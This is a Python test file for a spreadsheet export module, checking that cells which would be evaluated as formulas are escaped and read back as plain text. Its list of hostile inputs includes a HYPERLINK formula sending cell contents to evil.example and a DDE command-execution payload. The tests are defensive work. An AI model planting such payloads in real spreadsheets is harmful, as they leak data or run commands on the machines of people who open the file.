"""Files for spreadsheets: nothing in them is calculated, everything in them is read back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cha.core.spreadsheet import BOM, cell, sheet

HOSTILE = [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_what_would_be_calculated_is_text(value: str) -> None:
    assert cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["", "Huda", "a=b", "مريم", "3 - 2", "huda@mansoori.example"])
def test_other_words_stay_as_they_are(value: str) -> None:
    assert cell(value) == value


@given(st.lists(st.lists(st.text(), min_size=2, max_size=4), max_size=5))
def test_whatever_is_in_it_is_read_back_and_begins_no_formula(rows: list[list[str]]) -> None:
    text = b"".join(sheet(["one", "two"], [rows])).decode()
    assert text.startswith(BOM)
    back = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert back == [["one", "two"], *([cell(value) for value in row] for row in rows)]
    assert not any(value.lstrip()[:1] in tuple("=+-@") for row in back for value in row if value.strip())
